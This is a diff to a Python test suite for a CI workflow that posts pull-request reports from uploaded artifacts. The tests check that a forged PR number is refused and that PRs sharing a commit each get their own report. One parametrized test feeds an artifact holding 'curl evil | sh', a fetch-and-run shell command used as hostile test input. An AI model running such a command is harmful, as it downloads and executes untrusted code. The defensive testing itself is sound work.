@@ -33,9 +33,10 @@ def broken_copy(tmp_path: Path, name: str, old: str, new: str) -> Path:
     return path
 
 
-def seed_pr_artifact(harness, pull: int, head_sha: str = HEAD_SHA, extra: dict[str, bytes] | None = None) -> RunResult:
+def seed_pr_artifact(harness, pull: int, head_sha: str = HEAD_SHA, extra: dict[str, bytes] | None = None,
+                     run_id: int = 4242) -> RunResult:
     """A finished pr.yml run whose pr-report artifact is in the harness's artifact store."""
-    run = RunResult(workflow="pr", run_id=4242, event_name="pull_request")
+    run = RunResult(workflow="pr", run_id=run_id, event_name="pull_request")
     root = harness.runner.artifacts / str(run.run_id) / "pr-report"
     (root / "model").mkdir(parents=True)
     for name in ("metrics.json", "comparison.json", "validation.json"):
@@ -99,9 +100,20 @@ def test_an_artifact_claiming_another_pr_number_cannot_redirect_the_comment(harn
     victim = harness.gh.add_issue("An unrelated issue")["number"]
     pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
     run = run_pr_comment(harness, seed_pr_artifact(harness, victim))
-    assert run.conclusion == "success", run.log
-    assert harness.gh.comments_on(victim) == []
-    assert len(harness.gh.comments_on(pull)) == 1
+    assert run.conclusion == "failure"
+    assert (f"PR #{victim} does not have head commit {HEAD_SHA[:12]} (that commit heads #{pull}); refusing to post "
+            "on a PR number that may be forged") in run.log
+    assert harness.gh.comments_on(victim) == [] and harness.gh.comments_on(pull) == []
+
+
+def test_prs_sharing_a_head_commit_each_get_their_own_report(harness):
+    """One branch proposed into two bases: two pr.yml runs on the same SHA, each report on its own PR."""
+    first = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    second = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    for pull, run_id in ((first, 4242), (second, 4243)):
+        run = run_pr_comment(harness, seed_pr_artifact(harness, pull, run_id=run_id))
+        assert run.conclusion == "success", run.log
+    assert [len(harness.gh.comments_on(pull)) for pull in (first, second)] == [1, 1]
 
 
 @pytest.mark.parametrize("extra", [{"run.sh": b"curl evil | sh\n"}, {"pr_comment.md": b"\xff\xfe not utf-8"}])
